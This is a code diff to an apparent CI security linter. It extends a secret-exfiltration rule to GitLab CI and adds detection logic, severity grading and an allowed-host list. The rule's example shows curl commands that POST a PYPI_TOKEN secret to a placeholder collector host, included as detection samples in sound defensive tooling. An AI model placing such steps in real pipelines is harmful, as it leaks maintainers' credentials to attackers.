@@ -1,4 +1,5 @@
-import { networkSends } from '../analysis/network.ts';
+import { networkSends, scriptSends } from '../analysis/network.ts';
+import { describeGitLabCredentials, gitlabScriptEnvironment } from '../analysis/gitlab.ts';
 import { describeCredentials, type WordCredentials } from '../analysis/script-data.ts';
 import type { Severity } from '../findings/finding.ts';
 import { defineRule } from './rule.ts';
@@ -57,13 +58,25 @@ A release workflow needs to send credentials only to the package index and the f
 destination in the body, form, upload or URL of a request is reported; critical when it sends every
 secret, several secrets at once, or goes to a bare IP address or a known collection service. A secret
 used only as an \`Authorization\` header to an unknown host is usually a normal API call and is
-reported only for collection services and IP addresses.`,
+reported only for collection services and IP addresses.
+
+**GitLab CI.** Credentials are environment variables: CI/CD variables whose names say they are
+credentials (\`TOKEN\`, \`PASSWORD\`, \`SECRET\`, \`_KEY\`, \`PAT\`, \`CREDENTIAL\`) and that the file does not set,
+\`id_tokens:\` JWTs, \`secrets:\` values, and GitLab's own \`CI_JOB_TOKEN\`, \`CI_REGISTRY_PASSWORD\` and
+\`CI_DEPLOY_PASSWORD\`. Requests carrying them to hosts other than the package indexes and gitlab.com
+(or \`$CI_SERVER_URL\`/\`$CI_API_V4_URL\`, whose host is the instance's) are reported the same way; add a
+self-managed instance's host to \`allowed-hosts\`.`,
       example: `on: [push, workflow_dispatch]
 jobs:
   send-secrets:
     runs-on: ubuntu-latest
     steps:
-      - run: curl -s -X POST -d 'PYPI_TOKEN=\${{ secrets.PYPI_TOKEN }}' https://collector.example`,
+      - run: curl -s -X POST -d 'PYPI_TOKEN=\${{ secrets.PYPI_TOKEN }}' https://collector.example
+
+# GitLab CI
+release:
+  script:
+    - curl -s -d "token=$PYPI_TOKEN" https://collector.example`,
       fix: `If you did not write the step, treat every secret the workflow could read as stolen: revoke and
 rotate them (PyPI: Account settings → API tokens), remove the workflow, and require review of
 workflow changes (CODEOWNERS on \`.github/workflows/\`, branch protection). If the destination is yours,
@@ -79,6 +92,7 @@ rules:
         'https://blog.pypi.org/posts/2025-09-16-github-actions-token-exfiltration/',
         'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
         'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#considering-cross-repository-access',
+        'https://docs.gitlab.com/ci/variables/#cicd-variable-security',
       ],
       options: '`allowed-hosts`: extra hosts allowed to receive secrets; `*.example.com` matches subdomains.',
     },
@@ -109,7 +123,36 @@ rules:
       });
     }
   },
+
+  gitlabJob(job, _pipeline, context) {
+    const allowed = [...DEFAULT_ALLOWED, ...GITLAB_ALLOWED, ...(context.config['allowed-hosts'] ?? [])];
+    for (const script of [job.script, job.afterScript]) {
+      for (const send of scriptSends(script.parsed(), gitlabScriptEnvironment(job, script))) {
+        const command = send.command;
+        const host = send.host;
+        if (host && isAllowed(host, allowed)) continue;
+        if (host && isOwnService(host, send.payload)) continue;
+        const collector = host !== null && (COLLECTORS.test(host) || isIpAddress(host));
+        if (send.headerOnly && !collector) continue;
+        const everySecret = send.payload.secrets.includes('*');
+        const several = send.payload.secrets.filter((name) => name !== '*').length >= 2;
+        if (!host && !everySecret) continue;
+        let severity: Severity = 'high';
+        if (everySecret || several || collector || send.payload.fetchedTokens.length || send.payload.runnerCredentials.length) severity = 'critical';
+        const destination = host ? `\`${host}\`${collector ? (isIpAddress(host) ? ' (a bare IP address)' : ' (a data-collection service)') : ''}` : 'a destination computed at run time';
+        context.report({
+          message: `\`${command.program}\` in GitLab CI job \`${job.name}\` sends ${describeGitLabCredentials(send.payload, job)} to ${destination}, which is not a package index or the GitLab instance`,
+          span: command.span,
+          severity,
+          key: `gitlab/${job.name}/${command.program}/${host ?? '?'}`,
+        });
+      }
+    }
+  },
 });
+
+/** GitLab.com's hosts; a self-managed instance is reached through `$CI_SERVER_URL` (a host computed at run time) or configured. */
+const GITLAB_ALLOWED = ['gitlab.com', 'registry.gitlab.com'];
 
 function isAllowed(host: string, allowed: string[]): boolean {
   return allowed.some((entry) => {
